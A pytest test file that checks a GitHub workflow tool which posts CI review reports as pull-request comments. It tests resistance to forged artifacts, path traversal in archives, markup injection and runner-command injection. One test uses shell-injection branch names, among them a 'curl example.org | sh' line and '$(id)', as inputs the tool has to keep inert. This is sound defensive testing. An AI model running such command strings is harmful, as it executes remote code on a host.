"""From a finished run to its pull request, and only to that one."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from mainline.github.comment.markers import Marker, is_marked, title, watermark
from mainline.monitoring.results import Health, Seen, Verdict, to_json
from mainline.retraining.proposal import Outcome, Proposal
from tests.github.faults import bad_gateway, broken_connection, rate_limit, too_fast
from tests.github.state import BOT
from tests.mainline.github.comment.hostile import everywhere
from tests.mainline.github.comment.page import check
from tests.mainline.github.comment.scene import Scene, claim, files, real_report, saying
from tests.mainline.report import samples
from tests.projects import TOP

HEALTHY = Health(Verdict.ok, "Nothing drifted", Seen(), "ab", "1", [])


def test_a_report_is_posted_below_what_github_knows_of_the_run(scene: Scene) -> None:
    pull = scene.repository.pull()
    run = scene.reviewed(pull)
    assert scene.woken(run) == 0
    body = scene.body(pull)
    marker, head, report = body.split("\n\n", 2)
    assert Marker.of(body) == Marker(run["id"], 1, run["head_sha"])
    assert marker == str(Marker.of(body))
    assert head.startswith(f"[review 1]({run['html_url']}): **✅ passed** · [<code>{run['head_sha'][:12]}</code>](")
    assert f"[report with plots]({run['html_url']}/artifacts/" in head
    assert body.endswith(watermark(title("review"), run["head_sha"]))
    assert real_report() in report
    assert "Posted on" in scene.summary


def test_a_fork_and_a_draft_and_a_bot_get_theirs(scene: Scene) -> None:
    fork = scene.github.repository("someone/mainline", fork_of=scene.repository)
    pulls = [
        scene.repository.pull(source=fork),
        scene.repository.pull("draft", draft=True),
        scene.repository.pull("dependabot/uv/ruff-1", login="dependabot[bot]"),
    ]
    for pull in pulls:
        run = scene.reviewed(pull)
        assert scene.woken(run) == 0
        assert scene.body(pull).startswith(str(Marker(run["id"], 1, pull["head"]["sha"])))


@pytest.mark.parametrize("when", ["before the run ended", "since"])
def test_a_fork_that_was_deleted_gets_its_report(scene: Scene, when: str) -> None:
    fork = scene.github.repository("someone/mainline", fork_of=scene.repository)
    other = scene.repository.pull("other")
    pull = scene.repository.pull(source=fork)
    run = scene.reviewed(pull)
    event = str(scene.event(run).rename(scene.folder / "before.json"))
    scene.github.delete(fork)
    pull["head"]["label"] = "unknown repository"
    variables = {"GITHUB_EVENT_PATH": event} if when == "since" else {}
    assert scene.woken(run, **variables) == 0
    assert scene.body(pull)
    assert scene.bodies(other) == []


def test_a_twin_in_another_fork_does_not_take_the_place_of_a_deleted_one(scene: Scene) -> None:
    gone, twin = (scene.github.repository(f"{one}/mainline", fork_of=scene.repository) for one in ("gone", "twin"))
    pull = scene.repository.pull("patch-1", source=gone)
    other = scene.repository.pull("patch-1", source=twin, sha=pull["head"]["sha"])
    run = scene.repository.run(pull, conclusion="failure")  # it left nothing that tells twins apart
    event = str(scene.event(run).rename(scene.folder / "before.json"))
    scene.github.delete(gone)
    pull["head"]["label"] = "unknown repository"
    assert scene.woken(run, GITHUB_EVENT_PATH=event) == 0
    assert scene.body(pull)
    assert scene.bodies(other) == []


def test_the_same_branch_name_in_another_fork_is_another_pull_request(scene: Scene) -> None:
    mine, theirs = (scene.github.repository(f"{one}/mainline", fork_of=scene.repository) for one in ("me", "they"))
    first, second = (scene.repository.pull("patch-1", source=one) for one in (mine, theirs))
    assert scene.woken(scene.reviewed(second)) == 0
    assert scene.bodies(first) == []
    assert scene.body(second)


def test_two_pull_requests_of_one_branch_are_told_apart_by_what_the_run_left(scene: Scene) -> None:
    first = scene.repository.pull("shared")
    scene.repository.commit("heads/release", {}, "A second base")
    second = scene.repository.pull("shared", base="release")
    assert first["head"]["sha"] == second["head"]["sha"]
    assert scene.woken(scene.reviewed(second)) == 0
    assert scene.bodies(first) == []
    assert scene.body(second)
    assert scene.woken(scene.repository.run(first, conclusion="failure")) == 0
    assert "no claim that chooses between them" in scene.summary
    assert scene.bodies(first) == []


@pytest.mark.parametrize("lie", [{"pull_request": 1}, {"head_sha": "0" * 40}, {"run_id": 1}, {"run_attempt": 9}])
def test_an_artifact_that_claims_to_be_anothers_is_refused(scene: Scene, lie: dict[str, object]) -> None:
    victim, pull = scene.repository.pull("victim"), scene.repository.pull("attack")
    run = scene.repository.run(pull)
    scene.left(run, files(samples.flights(), claim(run, pull, **lie)))
    assert scene.woken(run) == 1
    assert "the artifact says" in scene.summary
    assert scene.bodies(victim) == scene.bodies(pull) == []
    assert scene.github.asked("POST") == scene.github.asked("PATCH") == []


def test_a_pull_request_that_is_closed_or_moved_on_or_never_was_is_skipped(scene: Scene) -> None:
    closed = scene.repository.pull("closed", state="closed")
    assert scene.woken(scene.reviewed(closed)) == 0
    assert "is closed" in scene.summary
    pull = scene.repository.pull("moving")
    run = scene.reviewed(pull)
    scene.repository.push(pull)
    assert scene.woken(run) == 0
    assert "has moved on from" in scene.summary
    assert scene.woken(scene.repository.run(branch="main")) == 0
    assert "no open pull request" in scene.summary
    assert scene.github.asked("POST") == []


@pytest.mark.parametrize("what", ["push", "close"])
def test_a_pull_request_that_changes_while_we_work_is_skipped(scene: Scene, what: str) -> None:
    pull = scene.repository.pull()
    run = scene.reviewed(pull)

    def change(*arguments: object) -> object:
        scene.repository.push(pull) if what == "push" else pull.update(state="closed")
        return original(*arguments)

    original = scene.github.blob  # the report's download comes before the second look
    scene.github.blob = change  # type: ignore[method-assign,assignment]
    assert scene.woken(run) == 0
    assert "has moved on to" in scene.summary or "has been closed" in scene.summary
    assert scene.bodies(pull) == []


@pytest.mark.parametrize("event", ["push", "schedule", "workflow_dispatch"])
def test_a_run_for_no_pull_request_is_skipped_without_a_question(scene: Scene, event: str) -> None:
    run = scene.repository.run(scene.repository.pull(), event=event)
    assert scene.woken(run) == 0
    assert f"was for a {event}" in scene.summary
    assert scene.github.requests == []


@pytest.mark.parametrize("conclusion", ["skipped", "action_required"])
def test_a_run_in_which_nothing_ran_is_skipped(scene: Scene, conclusion: str) -> None:
    pull = scene.repository.pull()
    assert scene.woken(scene.repository.run(pull, conclusion=conclusion)) == 0
    assert scene.bodies(pull) == []


@pytest.mark.parametrize(
    ("conclusion", "said"),
    [
        ("failure", "❌ failed"),
        ("cancelled", "cancelled"),
        ("timed_out", "timed out"),
        ("startup_failure", "not start"),
    ],
)
def test_a_run_that_left_no_report_says_so_in_the_place_of_the_last_one(
    scene: Scene, conclusion: str, said: str
) -> None:
    pull = scene.repository.pull()
    assert scene.woken(scene.reviewed(pull)) == 0
    scene.repository.push(pull)
    run = scene.repository.run(pull, conclusion=conclusion)
    assert scene.woken(run) == 0
    body = scene.body(pull)
    assert "**The run left no report.**" in body
    assert said in body
    assert run["html_url"] in body
    assert "ROC AUC" not in body


def test_an_artifact_that_has_expired_is_none(scene: Scene) -> None:
    pull = scene.repository.pull()
    run = scene.reviewed(pull)
    for artifact in scene.repository.artifacts.values():
        artifact["expired"] = True
    assert scene.woken(run) == 0
    assert "The run left no report." in scene.body(pull)
    assert "report with plots" not in scene.body(pull)


def test_a_run_started_again_shows_its_newest_report_and_says_when_it_is_an_earlier_attempts(scene: Scene) -> None:
    pull = scene.repository.pull()
    run = scene.reviewed(pull, "First", conclusion="failure")
    again = run | {"run_attempt": 2, "conclusion": "success"}
    assert scene.woken(again) == 0
    assert "The report is from attempt 1; attempt 2 left none." in scene.body(pull)
    scene.left(run, files(saying("Second"), claim(again, pull)))
    assert scene.woken(again) == 0
    assert "Second" in scene.body(pull)
    assert ", attempt 2: **✅ passed**" in scene.body(pull)
    assert "left none" not in scene.body(pull)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ({"report.json": "{}", "../../.bashrc": "y"}, "a path that leads out of it"),
        (b"no archive", "no readable zip archive"),
        ({"other.md": "x"}, "holds no report.json"),
        ({"report.json": b"\0" * (65 << 20)}, "unpacks to 65 MB"),
        ({"report.json": b" " * (9 << 20)}, "more than 8 MB"),
        ({"report.json": "[" * 99_999}, "not JSON"),
        ({"report.json": '{"format": 1, "kind": "review", "report": NaN}'}, "NaN is not JSON"),
        ({"report.json": '{"format": 1, "kind": "review", "report": {"html": "<b>"}}'}, "report.html: unknown key"),
        ({"report.json": '{"format": 2, "kind": "review", "report": {}}'}, "this code reads 1"),
    ],
)
def test_an_archive_that_no_review_makes_is_refused_and_the_pull_request_hears_of_it(
    scene: Scene, content: dict[str, bytes | str] | bytes, why: str
) -> None:
    pull = scene.repository.pull()
    run = scene.repository.run(pull)
    scene.left(run, content)
    assert scene.woken(run) == 1
    assert "The report is not shown" in scene.body(pull)
    assert why in scene.body(pull)
    assert why in scene.summary
    assert run["html_url"] in scene.body(pull)


def test_a_report_of_an_older_version_is_not_posted_and_the_comment_says_where_it_is(scene: Scene) -> None:
    pull = scene.repository.pull()
    run = scene.repository.run(pull)
    scene.left(run, {"report.md": "## ✅ Passed @everyone", "verdict.json": "{}", "review.json": claim(run, pull)})
    assert scene.woken(run) == 0
    body = scene.body(pull)
    assert "**The report is not shown:** this branch has an older version of the code" in body
    assert f"({run['html_url']}/artifacts/" in body
    assert "everyone" not in body


def test_markdown_that_a_run_left_is_never_posted(scene: Scene) -> None:
    pull = scene.repository.pull()
    run = scene.repository.run(pull)
    scene.left(run, files(samples.flights(), claim(run, pull)) | {"report.md": "## A verdict of its own"})
    assert scene.woken(run) == 0
    assert "A verdict of its own" not in scene.body(pull)


def test_an_artifact_that_is_too_large_is_not_downloaded(scene: Scene) -> None:
    pull = scene.repository.pull()
    run = scene.reviewed(pull)
    for artifact in scene.repository.artifacts.values():
        artifact["size_in_bytes"] = 5 << 30
    assert scene.woken(run) == 1
    assert "the artifact has 5120 MB" in scene.body(pull)
    assert scene.github.asked("GET", "/zip$") == []


@pytest.mark.parametrize(
    "name", [".github/workflows/review.yml", "data/expectations/frame.yaml", "src/mainline/evaluation/gates/margins.py"]
)
def test_a_pull_request_that_changes_its_judges_is_said_to_first_of_all(scene: Scene, name: str) -> None:
    pull = scene.repository.pull()
    scene.repository.trees[scene.repository.push(pull)][name] = b"exit 0"
    report = saying(str(Marker(9, 9, "0" * 40)), "", "## ✅ Passed, and no gates changed")
    assert scene.woken(scene.reviewed(pull, report)) == 0
    marker, first, text, *_ = scene.body(pull).split("\n")
    assert Marker.of(marker + "\n") != Marker(9, 9, "0" * 40)
    assert first == "> [!WARNING]"
    assert text.startswith("> **Gates changed in this pull request.**")
    assert f"<code>{name}</code>" in text.replace("&#95;", "_")


def test_a_pull_request_that_changes_no_judge_is_not_said_to(scene: Scene) -> None:
    pull = scene.repository.pull()
    scene.repository.trees[scene.repository.push(pull)]["src/flights/features.py"] = b"x = 1"
    assert scene.woken(scene.reviewed(pull)) == 0
    assert "Gates" not in scene.body(pull).split("---")[0]


def test_where_github_does_not_say_what_changed_the_comment_does_not_say_that_nothing_did(scene: Scene) -> None:
    pull = scene.repository.pull()
    scene.github.faults.append(bad_gateway(99, path=r"/files$"))
    assert scene.woken(scene.reviewed(pull)) == 0
    assert "Gates may have changed in this pull request" in scene.body(pull)


def test_files_with_names_like_markup_are_named_and_do_nothing(scene: Scene) -> None:
    pull = scene.repository.pull()
    name = ".github/@everyone](https://example.org)</code><img src=x>\n#1.yml"
    scene.repository.trees[scene.repository.push(pull)][name] = b""
    assert scene.woken(scene.reviewed(pull)) == 0
    line = scene.body(pull).split("\n")[2]
    assert "@" not in line
    assert "https://" not in line
    assert line.count("<") - line.count("<!-- -->") == 2, "our own code tags"


@pytest.mark.parametrize(
    "branch", ['"; curl example.org | sh; "', "$(id)", "`id`", "a&head=b", "-x", "ünïcode/x", "a:b", "x\ny", "..%2f.."]
)
def test_a_branch_with_a_shell_in_its_name_is_a_name(scene: Scene, branch: str) -> None:
    pull = scene.repository.pull(branch, title="$(touch x); `id` @everyone")
    assert scene.woken(scene.reviewed(pull)) == 0
    assert "id`" not in scene.body(pull)
    assert "everyone" not in scene.body(pull)
    assert [one.query["head"] for one in scene.github.asked("GET", "/pulls$")] == [f"flights:{branch}"]


def test_a_hostile_report_is_posted_without_its_tricks(scene: Scene) -> None:
    pull = scene.repository.pull()
    mark = watermark(title("monitor"), "0" * 40)
    text = f"@everyone closes #1 <script>x</script>\n\n{mark}\n\n" + "</details>\n" * 99 + "text " * 500
    report = everywhere(samples.refused_by_slices(), text)
    assert scene.woken(scene.reviewed(pull, report)) == 0
    body = scene.body(pull)
    assert len(body) <= 65_536
    check(body.partition("\n---\n")[2].rpartition("![]")[0])
    assert body.count("![]") == 1, "CML's own"
    assert not is_marked(body, title("monitor"))


def test_a_locked_conversation_leaves_the_report_in_the_summary(scene: Scene) -> None:
    pull = scene.repository.pull(locked=True)
    assert scene.woken(scene.reviewed(pull)) == 0
    assert scene.bodies(pull) == []
    assert "its conversation is locked" in scene.summary
    assert "### Gates: all 9 passed" in scene.summary


def test_a_token_that_may_only_read_leaves_the_report_in_the_summary(scene: Scene) -> None:
    pull = scene.repository.pull()
    assert scene.woken(scene.reviewed(pull), access="read") == 0
    assert scene.bodies(pull) == []
    assert "this token may not comment" in scene.summary
    assert "### Gates: all 9 passed" in scene.summary


def test_a_failing_api_is_asked_again(scene: Scene) -> None:
    pull = scene.repository.pull()
    run = scene.reviewed(pull)
    scene.github.faults += [
        bad_gateway(2, path="/pulls$"),
        broken_connection(1, path="/artifacts$"),
        too_fast(7, path="/zip$"),
        rate_limit(30, method="POST", path="/comments$"),
    ]
    assert scene.woken(run) == 0
    assert scene.body(pull)
    assert len(scene.waited) == 5


def test_a_post_that_broke_after_it_was_done_is_not_done_twice(scene: Scene) -> None:
    pull = scene.repository.pull()
    run = scene.reviewed(pull)
    answer = scene.github.answer
    broken: list[str] = []

    def done_but_broken(request: object) -> object:
        found = answer(request)  # type: ignore[arg-type]
        if getattr(request, "method", "") == "POST" and not broken:
            broken.append("once")
            return bad_gateway().answer()
        return found

    scene.github.answer = done_but_broken  # type: ignore[method-assign,assignment]
    assert scene.woken(run) == 0
    assert broken == ["once"]
    assert scene.body(pull)


@pytest.mark.parametrize("path", ["/pulls$", "/artifacts$", "/zip$", "/comments$"])
def test_an_api_that_stays_away_is_a_clear_failure_that_keeps_the_artifact(scene: Scene, path: str) -> None:
    pull = scene.repository.pull()
    run = scene.reviewed(pull)
    scene.github.faults.append(bad_gateway(10_000, path=path))
    assert scene.woken(run) == 4
    assert "502" in scene.summary
    assert "The report stays in the run's artifacts" in scene.summary
    assert len(scene.repository.artifacts) == 2


def test_a_rate_limit_that_lasts_longer_than_we_wait_is_said(scene: Scene) -> None:
    run = scene.reviewed(scene.repository.pull())
    scene.github.faults.append(rate_limit(3_000, times=99))
    assert scene.woken(run) == 4
    assert "rate limit exceeded" in scene.summary
    assert sum(scene.waited) < 200


def test_an_event_that_is_none_is_a_mistake_of_the_call(scene: Scene) -> None:
    run = scene.reviewed(scene.repository.pull())
    other = scene.folder / "push.json"
    other.write_text(json.dumps({"ref": "refs/heads/main"}), encoding="utf-8")
    for path in ("", "nowhere.json", str(other)):
        assert scene.woken(run, GITHUB_EVENT_PATH=path) == 2
        assert "is not a workflow_run event" in scene.summary
    assert scene.woken(run, GITHUB_TOKEN="") == 2


def test_what_strangers_wrote_is_no_command_to_the_runner(scene: Scene, capsys: pytest.CaptureFixture[str]) -> None:
    run = scene.repository.run(scene.repository.pull(), event="push\n::add-mask::x\r::debug::100%0A @octocat")
    assert scene.woken(run) == 0
    (line,) = capsys.readouterr().out.splitlines()
    assert line.startswith("::notice title=Comment::")
    assert "%0A::add-mask::x%0D::debug::100%250A" in line
    assert "@" not in scene.summary


@pytest.mark.slow
@pytest.mark.parametrize("module", ["comment", "monitor_issue", "retraining"])
def test_it_runs_on_the_standard_library_alone_from_any_folder(scene: Scene, module: str) -> None:
    pull = scene.repository.pull()
    (scene.folder / "json.py").write_text("raise SystemExit('the folder that we stand in was searched')")
    (scene.folder / "monitor.json").write_text(json.dumps(to_json(HEALTHY)), encoding="utf-8")
    waiting = Proposal(Outcome.waiting, "Not now")
    (scene.folder / "retraining.json").write_text(waiting.text(), encoding="utf-8")
    environment = {**scene.environment(scene.reviewed(pull)), "PYTHONPATH": str(TOP / "src")}
    done = subprocess.run(
        [sys.executable, "-S", "-P", "-m", f"mainline.github.{module}", str(scene.folder)],
        cwd=scene.folder,
        env=environment,
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert len(scene.bodies(pull)) == (module == "comment")


def test_nothing_is_said_to_github_but_the_comment(scene: Scene) -> None:
    pull = scene.repository.pull()
    assert scene.woken(scene.reviewed(pull)) == 0
    writes = [(one.method, one.path) for one in scene.github.requests if one.method != "GET"]
    assert writes == [("POST", f"/repos/flights/mainline/issues/{pull['number']}/comments")]
    assert len(scene.github.requests) <= 7, "each is a round trip before the person sees the report"


def test_the_author_is_the_workflows_own(scene: Scene) -> None:
    pull = scene.repository.pull()
    assert scene.woken(scene.reviewed(pull)) == 0
    (comment,) = scene.repository.comments_on(pull["number"])
    assert comment["user"]["login"] == BOT
